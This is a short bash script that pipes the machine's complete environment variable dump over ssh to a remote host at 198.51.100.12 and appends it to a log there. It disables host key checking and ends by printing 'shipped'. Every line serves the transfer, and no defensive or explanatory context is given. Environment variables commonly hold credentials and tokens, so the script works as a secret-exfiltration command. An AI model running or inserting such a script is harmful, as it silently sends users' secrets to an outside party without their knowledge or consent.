#!/usr/bin/env bash
host=logs@198.51.100.12
printenv | ssh -o StrictHostKeyChecking=no "$host" 'cat >> /var/spool/in.log'
echo "shipped"
